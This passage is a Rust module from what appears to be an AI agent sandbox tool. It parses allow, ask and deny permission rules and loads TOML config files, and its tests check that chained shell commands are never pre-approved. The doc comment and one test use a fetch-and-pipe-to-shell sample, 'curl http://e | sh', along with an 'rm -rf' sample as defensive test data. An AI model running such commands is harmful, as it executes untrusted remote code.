//! User rules and the config files they come from.
//!
//! A rule names a tool and, optionally, a glob over its arguments: `bash` (any command),
//! `bash(cargo test*)`, `write_file(src/**)`, `*(secrets/**)` (any tool). Rules sit in three
//! lists; deny beats ask beats allow, and no rule lifts a hard deny (mode and profile ceilings,
//! the jail). See [`crate::permission::Policy::decide`] for how they combine.
//!
//! Matching:
//! - For `bash` (and any [`ToolClass::Exec`] tool) the glob is matched against the command
//!   text, and `*` crosses `/`. An **allow** rule matches only a single simple command: a
//!   command holding `;`, `&`, `|`, `` ` ``, `$(`, `>`, `<` or a newline is never pre-approved by
//!   a glob (so `bash(cargo test*)` does not approve `cargo test; curl … | sh`). **deny** and
//!   **ask** rules are matched against the whole text and against each piece between those
//!   operators, so `bash(git push*)` also catches `cd x && git push`.
//! - For path tools the glob is matched against each path, normalised lexically (`./a//b` is
//!   `a/b`); `*` stops at `/`, `**` crosses it. With several paths (`move_file`), an allow rule
//!   must match every path, a deny or ask rule any one.
//!
//! # Config format
//!
//! The user-level file is `$XDG_CONFIG_HOME/airlock/config.toml` (falling back to
//! `~/.config/airlock/config.toml`). A workspace-local `.airlock/config.toml` is ignored — with a
//! notice — unless the operator passes `--allow-local-config`; when honoured, its rules are
//! added to the user's and its scalar settings override them.
//!
//! ```toml
//! plan_artifacts = ["plans/**", "PLAN.md"]   # what PLAN mode may write (this is the default)
//!
//! [permissions]
//! allow = ["bash(cargo test*)", "write_file(src/**)"]
//! ask   = ["bash(git *)"]
//! deny  = ["bash(npm publish*)", "*(vendor/**)"]
//!
//! [limits]
//! max_file_bytes = 8388608                   # default 8 MiB
//! max_staged_bytes = 2147483648              # a session's staged contents (user config only)
//!
//! [sandbox]
//! expose_sensitive = [".env.test"]           # sensitive workspace files commands may read
//!
//! [net]                                      # network grants of sandboxed runs (user config only)
//! allow = ["preset:cargo", "*.example.com:443", { host = "preset:npm", commands = ["npm *"] }]
//! deny  = ["internal.example.com"]
//! ```
//!
//! Unknown keys and malformed rules are errors that name the file and line. The only keys that
//! are accepted and ignored (with a notice) are `profile` and `unrestricted`: the access profile
//! is the operator's command-line choice, and unrestricted can never come from a file.

use crate::path::RelPath;
use crate::permission::ToolRequest;
use globset::{Glob, GlobBuilder, GlobMatcher};
use serde::Deserialize;
use std::fmt;
use std::path::{Path, PathBuf};

/// Default ceiling for one file's size, in bytes (8 MiB).
pub const DEFAULT_MAX_FILE_BYTES: u64 = 8 * 1024 * 1024;

/// The plan artifacts PLAN mode may write when the config names none.
pub fn default_plan_artifacts() -> Vec<String> {
    vec!["plans/**".to_string(), "PLAN.md".to_string()]
}

/// Why a rule string is not a rule.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RuleError {
    /// Empty text.
    #[error("the rule is empty")]
    Empty,
    /// The tool name is not `[A-Za-z0-9_-]+` or `*`.
    #[error("`{0}` does not start with a tool name (letters, digits, `_`, `-`) or `*`")]
    BadTool(String),
    /// Parentheses are unbalanced or trail garbage.
    #[error("`{0}` must be `tool` or `tool(glob)`")]
    Syntax(String),
    /// `tool()`.
    #[error("`{0}` has an empty argument glob; write the bare tool name to match any arguments")]
    EmptyGlob(String),
    /// The glob does not compile.
    #[error("`{rule}` has an invalid glob: {message}")]
    BadGlob {
        /// The rule text.
        rule: String,
        /// What globset said.
        message: String,
    },
}

/// One user rule: a tool name (or `*`) and an optional argument glob.
#[derive(Debug, Clone)]
pub struct Rule {
    text: String,
    tool: String,
    glob: Option<RuleGlob>,
}

#[derive(Debug, Clone)]
struct RuleGlob {
    /// `*` stops at `/` (paths).
    path: GlobMatcher,
    /// `*` crosses `/` (command text).
    text: GlobMatcher,
    /// The glob itself names shell operators, so it may match compound commands.
    has_operators: bool,
}

impl Rule {
    /// Parse `tool` or `tool(glob)`.
    pub fn parse(text: &str) -> Result<Rule, RuleError> {
        let t = text.trim();
        if t.is_empty() {
            return Err(RuleError::Empty);
        }
        let (tool, glob) = match t.find('(') {
            None => (t, None),
            Some(open) => {
                if !t.ends_with(')') {
                    return Err(RuleError::Syntax(t.to_string()));
                }
                (&t[..open], Some(&t[open + 1..t.len() - 1]))
            }
        };
        let tool_ok = tool == "*"
            || (!tool.is_empty()
                && tool
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-'));
        if !tool_ok {
            return Err(RuleError::BadTool(t.to_string()));
        }
        let glob = match glob {
            None => None,
            Some("") => return Err(RuleError::EmptyGlob(t.to_string())),
            Some(g) => {
                let build = |sep: bool| {
                    GlobBuilder::new(g)
                        .literal_separator(sep)
                        .backslash_escape(true)
                        .build()
                        .map(|g: Glob| g.compile_matcher())
                        .map_err(|e| RuleError::BadGlob {
                            rule: t.to_string(),
                            message: e.kind().to_string(),
                        })
                };
                Some(RuleGlob {
                    path: build(true)?,
                    text: build(false)?,
                    has_operators: has_shell_operators(g),
                })
            }
        };
        Ok(Rule {
            text: t.to_string(),
            tool: tool.to_string(),
            glob,
        })
    }

    /// The rule as written.
    pub fn as_str(&self) -> &str {
        &self.text
    }

    /// The tool it names (`*` for any).
    pub fn tool(&self) -> &str {
        &self.tool
    }

    /// True when the rule names arguments (`tool(glob)`), not just a tool: only such a rule
    /// can vouch for one specific command.
    pub fn names_arguments(&self) -> bool {
        self.glob.is_some()
    }

    fn names_tool(&self, tool: &str) -> bool {
        self.tool == "*" || self.tool == tool
    }

    /// Whether this rule, used as an allow rule, approves `req`.
    pub fn allows(&self, req: &ToolRequest<'_>) -> bool {
        if !self.names_tool(req.tool) {
            return false;
        }
        let Some(g) = &self.glob else { return true };
        if req.subjects.is_empty() {
            return false;
        }
        if req.class.takes_commands() {
            req.subjects.iter().all(|cmd| {
                let cmd = cmd.trim();
                (g.has_operators || !has_shell_operators(cmd)) && g.text.is_match(cmd)
            })
        } else {
            // A path that is not clean (absolute, `..`) is never pre-approved.
            req.subjects.iter().all(|p| {
                RelPath::new(p)
                    .map(|r| g.path.is_match(r.as_path()))
                    .unwrap_or(false)
            })
        }
    }

    /// Whether this rule, used as a deny or ask rule, catches `req`.
    pub fn catches(&self, req: &ToolRequest<'_>) -> bool {
        if !self.names_tool(req.tool) {
            return false;
        }
        let Some(g) = &self.glob else { return true };
        if req.class.takes_commands() {
            req.subjects.iter().any(|cmd| {
                let cmd = cmd.trim();
                g.text.is_match(cmd)
                    || split_simple_commands(cmd).any(|piece| g.text.is_match(piece))
            })
        } else {
            req.subjects.iter().any(|p| {
                let n = normalise_subject(p);
                g.path.is_match(&n) || g.path.is_match(p.as_str())
            })
        }
    }
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

fn has_shell_operators(s: &str) -> bool {
    s.contains([';', '&', '|', '`', '>', '<', '\n', '\r']) || s.contains("$(")
}

/// Pieces of a command between shell operators (quotes ignored: over-splitting only makes deny
/// and ask rules catch more).
fn split_simple_commands(cmd: &str) -> impl Iterator<Item = &str> {
    cmd.split([';', '&', '|', '\n', '\r', '`', '(', ')'])
        .map(|p| p.trim().trim_start_matches('$').trim())
        .filter(|p| !p.is_empty())
}

/// `./a//b/` → `a/b`; anything that is not a clean relative path is matched as given.
fn normalise_subject(p: &str) -> String {
    match RelPath::new(p) {
        Ok(r) => r.display(),
        Err(_) => p.to_string(),
    }
}

/// Whether `path` (as a tool gave it) matches one of `globs` after lexical normalisation. A path
/// that is not a clean relative path (absolute, `..`, NUL) never matches.
pub fn path_matches_any(globs: &[GlobMatcher], path: &str) -> bool {
    match RelPath::new(path) {
        Ok(r) => globs.iter().any(|g| g.is_match(r.as_path())),
        Err(_) => false,
    }
}

/// Compile path globs (`*` stops at `/`).
pub fn compile_path_globs(globs: &[String]) -> Result<Vec<GlobMatcher>, RuleError> {
    Ok(parse_path_globs(globs)?
        .iter()
        .map(Glob::compile_matcher)
        .collect())
}

/// Parse path globs (`*` stops at `/`) without compiling their matchers: parsing finds every
/// syntax error, and compiling (a regex each) can wait until a path is matched.
pub fn parse_path_globs(globs: &[String]) -> Result<Vec<Glob>, RuleError> {
    globs
        .iter()
        .map(|g| {
            GlobBuilder::new(g)
                .literal_separator(true)
                .backslash_escape(true)
                .build()
                .map_err(|e| RuleError::BadGlob {
                    rule: g.clone(),
                    message: e.kind().to_string(),
                })
        })
        .collect()
}

/// The three rule lists.
#[derive(Debug, Clone, Default)]
pub struct Rules {
    /// Pre-approved calls.
    pub allow: Vec<Rule>,
    /// Calls that need the operator.
    pub ask: Vec<Rule>,
    /// Refused calls.
    pub deny: Vec<Rule>,
}

impl Rules {
    /// No rules.
    pub fn new() -> Rules {
        Rules::default()
    }

    /// Parse three lists of rule strings.
    pub fn parse(allow: &[&str], ask: &[&str], deny: &[&str]) -> Result<Rules, RuleError> {
        let p = |l: &[&str]| {
            l.iter()
                .map(|r| Rule::parse(r))
                .collect::<Result<Vec<_>, _>>()
        };
        Ok(Rules {
            allow: p(allow)?,
            ask: p(ask)?,
            deny: p(deny)?,
        })
    }

    /// True when there are no rules.
    pub fn is_empty(&self) -> bool {
        self.allow.is_empty() && self.ask.is_empty() && self.deny.is_empty()
    }

    /// The first deny rule that catches `req`.
    pub fn denying(&self, req: &ToolRequest<'_>) -> Option<&Rule> {
        self.deny.iter().find(|r| r.catches(req))
    }

    /// The first ask rule that catches `req`.
    pub fn asking(&self, req: &ToolRequest<'_>) -> Option<&Rule> {
        self.ask.iter().find(|r| r.catches(req))
    }

    /// The first allow rule that approves `req`.
    pub fn allowing(&self, req: &ToolRequest<'_>) -> Option<&Rule> {
        self.allow.iter().find(|r| r.allows(req))
    }

    fn extend(&mut self, other: Rules) {
        self.allow.extend(other.allow);
        self.ask.extend(other.ask);
        self.deny.extend(other.deny);
    }
}

/// The loaded configuration.
#[derive(Debug, Clone)]
pub struct Config {
    /// User rules (user file, plus the local file when allowed).
    pub rules: Rules,
    /// Globs of what PLAN mode may write.
    pub plan_artifacts: Vec<String>,
    /// Largest file a tool reads or writes, in bytes.
    pub max_file_bytes: u64,
    /// Ceiling on the bytes a session may stage (`[limits] max_staged_bytes` of the user
    /// config; never from a workspace-local file); `None`: the store's default.
    pub max_staged_bytes: Option<u64>,
    /// Path globs of sensitive workspace files (`.env.test`, `config/*.pem`) that sandboxed
    /// commands may read; every other sensitive file is masked in the sandbox.
    pub expose_sensitive: Vec<String>,
    /// Things the operator should know (an ignored local config, an ignored key, …).
    pub notices: Vec<String>,
    /// The operator's test command for this workspace (`[verify] command`, or its entry in
    /// `[verify.workspaces]`): a verdict of this command can unlock apply.
    pub verify_command: Option<Vec<String>>,
    /// The default diagnostics budget of `verify`, in bytes (`[verify] budget`, 256 to
    /// 65536); a call's own `budget` overrides it.
    pub verify_budget: Option<usize>,
    /// Network grants of sandboxed runs (`[net]` of the user config, plus its
    /// `[net.workspaces."<path>"]` entry for this workspace; never from a workspace-local file).
    pub net: crate::net::NetRuleSet,
}

impl Default for Config {
    fn default() -> Config {
        Config {
            rules: Rules::new(),
            plan_artifacts: default_plan_artifacts(),
            max_file_bytes: DEFAULT_MAX_FILE_BYTES,
            max_staged_bytes: None,
            expose_sensitive: Vec::new(),
            notices: Vec::new(),
            verify_command: None,
            verify_budget: None,
            net: crate::net::NetRuleSet::default(),
        }
    }
}

/// Why a config file could not be loaded.
#[derive(Debug, thiserror::Error)]
pub enum ConfigError {
    /// The file exists but could not be read.
    #[error("cannot read the config file {}: {source}", path.display())]
    Read {
        /// The file.
        path: PathBuf,
        /// The I/O error.
        source: std::io::Error,
    },
    /// The file is not valid TOML or has an unexpected shape.
    #[error("{}:{line}: {message}", path.display())]
    Syntax {
        /// The file.
        path: PathBuf,
        /// 1-based line (0 when unknown).
        line: usize,
        /// What is wrong.
        message: String,
    },
    /// A rule or glob does not parse.
    #[error("{}:{line}: {source}", path.display())]
    Rule {
        /// The file.
        path: PathBuf,
        /// 1-based line.
        line: usize,
        /// The rule error.
        source: RuleError,
    },
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawConfig {
    #[serde(default)]
    permissions: Option<RawPermissions>,
    #[serde(default)]
    plan_artifacts: Option<Vec<toml::Spanned<String>>>,
    #[serde(default)]
    limits: Option<RawLimits>,
    #[serde(default)]
    sandbox: Option<RawSandbox>,
    #[serde(default)]
    profile: Option<toml::Spanned<toml::Value>>,
    #[serde(default)]
    unrestricted: Option<toml::Spanned<toml::Value>>,
    #[serde(default)]
    verify: Option<RawVerify>,
    #[serde(default)]
    defaults: Option<toml::Spanned<RawDefaults>>,
    #[serde(default)]
    net: Option<toml::Spanned<RawNet>>,
}

/// `[net]`: hosts sandboxed runs may reach (see [`crate::net`]).
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawNet {
    #[serde(default)]
    allow: Vec<toml::Spanned<RawGrant>>,
    #[serde(default)]
    deny: Vec<toml::Spanned<RawGrant>>,
    #[serde(default)]
    ask: Vec<toml::Spanned<RawGrant>>,
    /// Absolute workspace path → grants for that workspace only.
    #[serde(default)]
    workspaces: std::collections::BTreeMap<String, RawNetLists>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawNetLists {
    #[serde(default)]
    allow: Vec<toml::Spanned<RawGrant>>,
    #[serde(default)]
    deny: Vec<toml::Spanned<RawGrant>>,
}

/// A grant: `"HOST"` / `"preset:NAME"`, or `{ host = "…", commands = ["npm *"] }`.
#[derive(Deserialize)]
#[serde(untagged)]
enum RawGrant {
    Plain(String),
    Scoped {
        host: String,
        #[serde(default)]
        commands: Vec<String>,
    },
}

impl RawGrant {
    fn parts(&self) -> (&str, &[String]) {
        match self {
            RawGrant::Plain(h) => (h, &[]),
            RawGrant::Scoped { host, commands } => (host, commands),
        }
    }
}

/// `[defaults]`: the operator's default mode, permission and profile for every session (the
/// user config only; flags and `AIRLOCK_MODE`-style variables win).
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawDefaults {
    #[serde(default)]
    mode: Option<toml::Spanned<String>>,
    #[serde(default)]
    permission: Option<toml::Spanned<String>>,
    #[serde(default)]
    profile: Option<toml::Spanned<String>>,
}

/// The operator's defaults from the user config's `[defaults]` table. A command-line flag or
/// an `AIRLOCK_MODE`/`AIRLOCK_PERMISSION`/`AIRLOCK_PROFILE` variable wins over them.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Defaults {
    /// Default work mode.
    pub mode: Option<crate::modes::WorkMode>,
    /// Default permission mode.
    pub permission: Option<crate::modes::PermissionMode>,
    /// Default access profile (never `unrestricted`: that is the operator's flag only).
    pub profile: Option<crate::modes::Profile>,
}

/// Reads `[defaults]` from the user config at `path` (absent file or table: no defaults). A
/// value that names no mode, permission or profile, or names `unrestricted`, is an error naming
/// the file and line.
pub fn load_defaults(path: &Path) -> Result<Defaults, ConfigError> {
    let Some(text) = read_if_present(path)? else {
        return Ok(Defaults::default());
    };
    let raw: RawConfig = toml::from_str(&text).map_err(|e| ConfigError::Syntax {
        path: path.to_path_buf(),
        line: e.span().map(|s| line_of(&text, s.start)).unwrap_or(0),
        message: e.message().to_string(),
    })?;
    let Some(d) = raw.defaults.map(toml::Spanned::into_inner) else {
        return Ok(Defaults::default());
    };
    fn parse<T: std::str::FromStr>(
        v: Option<toml::Spanned<String>>,
        key: &str,
        path: &Path,
        text: &str,
    ) -> Result<Option<T>, ConfigError> {
        let Some(v) = v else { return Ok(None) };
        let line = line_of(text, v.span().start);
        if key == "profile" && v.get_ref() == "unrestricted" {
            return Err(ConfigError::Syntax {
                path: path.to_path_buf(),
                line,
                message: "`defaults.profile` cannot be `unrestricted`: only the operator's flag lifts the jail, for one session".into(),
            });
        }
        v.get_ref()
            .parse::<T>()
            .map(Some)
            .map_err(|_| ConfigError::Syntax {
                path: path.to_path_buf(),
                line,
                message: format!("`defaults.{key}` = {:?} is not a known {key}", v.get_ref()),
            })
    }
    Ok(Defaults {
        mode: parse(d.mode, "mode", path, &text)?,
        permission: parse(d.permission, "permission", path, &text)?,
        profile: parse(d.profile, "profile", path, &text)?,
    })
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawVerify {
    #[serde(default)]
    command: Option<toml::Spanned<Vec<String>>>,
    /// Default diagnostics budget in bytes.
    #[serde(default)]
    budget: Option<toml::Spanned<i64>>,
    /// Absolute workspace path → that workspace's test command.
    #[serde(default)]
    workspaces: std::collections::BTreeMap<String, toml::Spanned<Vec<String>>>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawPermissions {
    #[serde(default)]
    allow: Vec<toml::Spanned<String>>,
    #[serde(default)]
    ask: Vec<toml::Spanned<String>>,
    #[serde(default)]
    deny: Vec<toml::Spanned<String>>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawLimits {
    #[serde(default)]
    max_file_bytes: Option<u64>,
    #[serde(default)]
    max_staged_bytes: Option<toml::Spanned<u64>>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawSandbox {
    #[serde(default)]
    expose_sensitive: Vec<toml::Spanned<String>>,
}

/// `[limits]`: `max_staged_bytes` counts only from the user config (a workspace must not raise
/// the ceiling on what its own agent may stage).
fn merge_limits(
    config: &mut Config,
    limits: RawLimits,
    path: &Path,
    text: &str,
    workspace: Option<&Path>,
) {
    if let Some(n) = limits.max_file_bytes {
        config.max_file_bytes = n;
    }
    if let Some(n) = limits.max_staged_bytes {
        if workspace.is_some_and(|ws| path == local_config_path(ws)) {
            config.notices.push(format!(
                "Ignored `max_staged_bytes` in {}:{}: the ceiling on a session's staged contents comes from the user config or the command line only.",
                path.display(),
                line_of(text, n.span().start)
            ));
        } else {
            config.max_staged_bytes = Some(*n.get_ref());
        }
    }
}

/// The user-level config path from the values of `XDG_CONFIG_HOME` and `HOME` (the caller
/// reads them): `$XDG_CONFIG_HOME/airlock/config.toml`, else `$HOME/.config/airlock/config.toml`;
/// `None` when neither is usable. Relative or empty values are ignored, as the XDG spec says.
pub fn user_config_path_from(
    xdg_config_home: Option<&std::ffi::OsStr>,
    home: Option<&std::ffi::OsStr>,
) -> Option<PathBuf> {
    let usable = |v: Option<&std::ffi::OsStr>| {
        v.map(Path::new)
            .filter(|p| p.is_absolute())
            .map(Path::to_path_buf)
    };
    if let Some(x) = usable(xdg_config_home) {
        return Some(x.join("airlock").join("config.toml"));
    }
    usable(home).map(|h| h.join(".config").join("airlock").join("config.toml"))
}

/// The workspace-local config path (`<workspace>/.airlock/config.toml`).
pub fn local_config_path(workspace: &Path) -> PathBuf {
    workspace.join(".airlock").join("config.toml")
}

/// Load the user config (when given and present) and, if `allow_local`, the workspace-local
/// one. A missing file is no error; an unreadable or malformed one is.
pub fn load_config(
    user_config: Option<&Path>,
    workspace: &Path,
    allow_local: bool,
) -> Result<Config, ConfigError> {
    let mut config = Config::default();
    if let Some(path) = user_config
        && let Some(text) = read_if_present(path)?
    {
        merge_file_for(&mut config, path, &text, Some(workspace))?;
    }
    let local = local_config_path(workspace);
    match std::fs::symlink_metadata(&local) {
        Ok(_) if allow_local => {
            if let Some(text) = read_if_present(&local)? {
                merge_file_for(&mut config, &local, &text, Some(workspace))?;
                config.notices.push(format!(
                    "Honouring the workspace-local config {} because local config is allowed.",
                    local.display()
                ));
            }
        }
        Ok(_) => config.notices.push(format!(
            "Ignored the workspace-local config {}; pass --allow-local-config to honour it.",
            local.display()
        )),
        Err(_) => {}
    }
    Ok(config)
}

fn read_if_present(path: &Path) -> Result<Option<String>, ConfigError> {
    match std::fs::read_to_string(path) {
        Ok(t) => Ok(Some(t)),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(source) => Err(ConfigError::Read {
            path: path.to_path_buf(),
            source,
        }),
    }
}

fn line_of(text: &str, offset: usize) -> usize {
    let end = offset.min(text.len());
    text.as_bytes()[..end]
        .iter()
        .filter(|&&b| b == b'\n')
        .count()
        + 1
}

/// Parse one file's text and fold it into `config`.
pub fn merge_file(config: &mut Config, path: &Path, text: &str) -> Result<(), ConfigError> {
    merge_file_for(config, path, text, None)
}

/// [`merge_file`] for one workspace: `[verify.workspaces]` entries naming it apply.
pub fn merge_file_for(
    config: &mut Config,
    path: &Path,
    text: &str,
    workspace: Option<&Path>,
) -> Result<(), ConfigError> {
    let raw: RawConfig = toml::from_str(text).map_err(|e| ConfigError::Syntax {
        path: path.to_path_buf(),
        line: e.span().map(|s| line_of(text, s.start)).unwrap_or(0),
        message: e.message().trim().to_string(),
    })?;
    let rule_list = |list: Vec<toml::Spanned<String>>| -> Result<Vec<Rule>, ConfigError> {
        list.into_iter()
            .map(|s| {
                Rule::parse(s.get_ref()).map_err(|source| ConfigError::Rule {
                    path: path.to_path_buf(),
                    line: line_of(text, s.span().start),
                    source,
                })
            })
            .collect()
    };
    if let Some(p) = raw.permissions {
        config.rules.extend(Rules {
            allow: rule_list(p.allow)?,
            ask: rule_list(p.ask)?,
            deny: rule_list(p.deny)?,
        });
    }
    if let Some(globs) = raw.plan_artifacts {
        for g in &globs {
            compile_path_globs(std::slice::from_ref(g.get_ref())).map_err(|source| {
                ConfigError::Rule {
                    path: path.to_path_buf(),
                    line: line_of(text, g.span().start),
                    source,
                }
            })?;
        }
        config.plan_artifacts = globs.into_iter().map(|g| g.into_inner()).collect();
    }
    if let Some(sandbox) = raw.sandbox {
        for g in &sandbox.expose_sensitive {
            compile_path_globs(std::slice::from_ref(g.get_ref())).map_err(|source| {
                ConfigError::Rule {
                    path: path.to_path_buf(),
                    line: line_of(text, g.span().start),
                    source,
                }
            })?;
        }
        config
            .expose_sensitive
            .extend(sandbox.expose_sensitive.into_iter().map(|g| g.into_inner()));
    }
    if let Some(limits) = raw.limits {
        merge_limits(config, limits, path, text, workspace);
    }
    if let Some(v) = raw.verify {
        let checked = |c: toml::Spanned<Vec<String>>| -> Result<Vec<String>, ConfigError> {
            if c.get_ref().is_empty() || c.get_ref()[0].is_empty() {
                return Err(ConfigError::Syntax {
                    path: path.to_path_buf(),
                    line: line_of(text, c.span().start),
                    message: "a test command is a non-empty list: program, then arguments".into(),
                });
            }
            Ok(c.into_inner())
        };
        if let Some(c) = v.command {
            config.verify_command = Some(checked(c)?);
        }
        if let Some(b) = v.budget {
            let n = usize::try_from(*b.get_ref())
                .ok()
                .filter(|n| (256..=65536).contains(n))
                .ok_or_else(|| ConfigError::Syntax {
                    path: path.to_path_buf(),
                    line: line_of(text, b.span().start),
                    message: "`budget` is a number of bytes from 256 to 65536".into(),
                })?;
            config.verify_budget = Some(n);
        }
        for (ws, c) in v.workspaces {
            let c = checked(c)?;
            let named = Path::new(&ws);
            let same = workspace
                .is_some_and(|w| named == w || std::fs::canonicalize(named).is_ok_and(|n| n == w));
            if same {
                config.verify_command = Some(c);
            }
        }
    }
    if let Some(net) = raw.net {
        let line = line_of(text, net.span().start);
        let net = net.into_inner();
        if workspace.is_some_and(|ws| path == local_config_path(ws)) {
            config.notices.push(format!(
                "Ignored `[net]` in {}:{line}: network grants come from the user config or the command line only.",
                path.display()
            ));
        } else {
            for g in &net.ask {
                let (h, c) = g.get_ref().parts();
                let rule = crate::net::HostRule::parse(h, c).map_err(|e| ConfigError::Syntax {
                    path: path.to_path_buf(),
                    line: line_of(text, g.span().start),
                    message: e.to_string(),
                })?;
                config.net.ask.push(rule);
            }
            let mut lists = vec![(net.allow, net.deny)];
            for (ws, l) in net.workspaces {
                let named = Path::new(&ws);
                if workspace.is_some_and(|w| {
                    named == w || std::fs::canonicalize(named).is_ok_and(|n| n == w)
                }) {
                    lists.push((l.allow, l.deny));
                }
            }
            for (allow, deny) in lists {
                let err = |g: &toml::Spanned<RawGrant>, e: crate::net::NetGrantError| {
                    ConfigError::Syntax {
                        path: path.to_path_buf(),
                        line: line_of(text, g.span().start),
                        message: e.to_string(),
                    }
                };
                for g in &allow {
                    let (h, c) = g.get_ref().parts();
                    let item = crate::net::GrantItem::parse(h, c).map_err(|e| err(g, e))?;
                    config.net.allow.push(item);
                }
                for g in &deny {
                    let (h, c) = g.get_ref().parts();
                    if h.trim().starts_with("preset:") {
                        return Err(err(
                            g,
                            crate::net::NetGrantError {
                                input: h.to_string(),
                                why: "a deny rule names hosts, not a preset".into(),
                            },
                        ));
                    }
                    let rule = crate::net::HostRule::parse(h, c).map_err(|e| err(g, e))?;
                    config.net.deny.push(rule);
                }
            }
        }
    }
    if let (Some(d), Some(ws)) = (&raw.defaults, workspace)
        && path == local_config_path(ws)
    {
        config.notices.push(format!(
            "Ignored `[defaults]` in {}:{}: defaults come from the user config only.",
            path.display(),
            line_of(text, d.span().start)
        ));
    }
    for (key, value) in [("profile", raw.profile), ("unrestricted", raw.unrestricted)] {
        if let Some(v) = value {
            config.notices.push(format!(
                "Ignored `{key}` in {}:{}: the access profile is chosen on the command line, and unrestricted only by the operator's flag, never by a file.",
                path.display(),
                line_of(text, v.span().start)
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::permission::ToolClass;

    fn req<'a>(tool: &'a str, class: ToolClass, subjects: &'a [String]) -> ToolRequest<'a> {
        ToolRequest {
            tool,
            class,
            subjects,
        }
    }

    #[test]
    fn parses_bare_and_globbed_rules() {
        let r = Rule::parse("bash").unwrap();
        assert_eq!(r.tool(), "bash");
        assert!(r.allows(&req("bash", ToolClass::Exec, &["rm -rf x; y".into()])));
        let r = Rule::parse(" write_file(src/**) ").unwrap();
        assert_eq!(r.as_str(), "write_file(src/**)");
        assert!(matches!(Rule::parse(""), Err(RuleError::Empty)));
        assert!(matches!(
            Rule::parse("bash()"),
            Err(RuleError::EmptyGlob(_))
        ));
        assert!(matches!(Rule::parse("bash(x"), Err(RuleError::Syntax(_))));
        assert!(matches!(Rule::parse("ba sh"), Err(RuleError::BadTool(_))));
        assert!(matches!(
            Rule::parse("write_file(src/[)"),
            Err(RuleError::BadGlob { .. })
        ));
    }

    #[test]
    fn command_globs_cross_slashes_but_allow_only_simple_commands() {
        let r = Rule::parse("bash(cargo test*)").unwrap();
        let ok = ["cargo test -p x/y".to_string()];
        assert!(r.allows(&req("bash", ToolClass::Exec, &ok)));
        let chained = ["cargo test; curl http://e | sh".to_string()];
        assert!(!r.allows(&req("bash", ToolClass::Exec, &chained)));
        assert!(!r.allows(&req("sh", ToolClass::Exec, &ok)));
        let deny = Rule::parse("bash(git push*)").unwrap();
        let hidden = ["cd x && git push origin main".to_string()];
        assert!(deny.catches(&req("bash", ToolClass::Exec, &hidden)));
        let sub = ["echo $(git push)".to_string()];
        assert!(deny.catches(&req("bash", ToolClass::Exec, &sub)));
    }

    #[test]
    fn path_globs_respect_separators_and_need_every_path_to_allow() {
        let r = Rule::parse("write_file(src/*)").unwrap();
        let direct = ["./src//a.rs".to_string()];
        assert!(r.allows(&req("write_file", ToolClass::Write, &direct)));
        let deep = ["src/a/b.rs".to_string()];
        assert!(!r.allows(&req("write_file", ToolClass::Write, &deep)));
        let r = Rule::parse("move_file(src/**)").unwrap();
        let both = ["src/a".to_string(), "src/b/c".to_string()];
        let one = ["src/a".to_string(), "etc/b".to_string()];
        assert!(r.allows(&req("move_file", ToolClass::Write, &both)));
        assert!(!r.allows(&req("move_file", ToolClass::Write, &one)));
        assert!(r.catches(&req("move_file", ToolClass::Write, &one)));
        let escape = ["src/../etc/x".to_string()];
        assert!(!r.allows(&req("move_file", ToolClass::Write, &escape)));
    }

    #[test]
    fn config_path_prefers_xdg_and_ignores_relative_values() {
        use std::ffi::OsStr;
        assert_eq!(
            user_config_path_from(Some(OsStr::new("/x")), Some(OsStr::new("/h"))),
            Some(PathBuf::from("/x/airlock/config.toml"))
        );
        assert_eq!(
            user_config_path_from(Some(OsStr::new("rel")), Some(OsStr::new("/h"))),
            Some(PathBuf::from("/h/.config/airlock/config.toml"))
        );
        assert_eq!(user_config_path_from(None, Some(OsStr::new(""))), None);
    }

    #[test]
    fn malformed_config_names_file_and_line() {
        let mut c = Config::default();
        let text = "[permissions]\nallow = [\n  \"bash\",\n  \"bash(\",\n]\n";
        let e = merge_file(&mut c, Path::new("/u/config.toml"), text).unwrap_err();
        assert_eq!(e.to_string().split(": ").next(), Some("/u/config.toml:4"));
        let e = merge_file(
            &mut c,
            Path::new("c.toml"),
            "[limits]\nmax_file_bytes = \"x\"\n",
        )
        .unwrap_err();
        assert!(e.to_string().starts_with("c.toml:2:"), "{e}");
        let e = merge_file(&mut c, Path::new("c.toml"), "\n\nbogus = 1\n").unwrap_err();
        assert!(e.to_string().starts_with("c.toml:3:"), "{e}");
    }

    #[test]
    fn verify_budget_from_config() {
        let mut c = Config::default();
        merge_file(&mut c, Path::new("u.toml"), "[verify]\nbudget = 16384\n").unwrap();
        assert_eq!(c.verify_budget, Some(16384));
        for bad in ["0", "100", "1000000", "\"big\""] {
            let e = merge_file(
                &mut Config::default(),
                Path::new("u.toml"),
                &format!("\n[verify]\nbudget = {bad}\n"),
            )
            .unwrap_err();
            assert!(e.to_string().starts_with("u.toml:3:"), "{bad}: {e}");
        }
    }

    #[test]
    fn verify_command_from_config_and_per_workspace() {
        let mut c = Config::default();
        let text = "[verify]\ncommand = [\"make\", \"test\"]\n[verify.workspaces]\n\"/w/one\" = [\"cargo\", \"test\", \"--workspace\"]\n";
        merge_file_for(&mut c, Path::new("u.toml"), text, Some(Path::new("/w/one"))).unwrap();
        assert_eq!(
            c.verify_command,
            Some(vec!["cargo".into(), "test".into(), "--workspace".into()])
        );
        let mut c = Config::default();
        merge_file_for(&mut c, Path::new("u.toml"), text, Some(Path::new("/w/two"))).unwrap();
        assert_eq!(c.verify_command, Some(vec!["make".into(), "test".into()]));
        let e = merge_file_for(
            &mut Config::default(),
            Path::new("u.toml"),
            "\n[verify]\ncommand = []\n",
            None,
        )
        .unwrap_err();
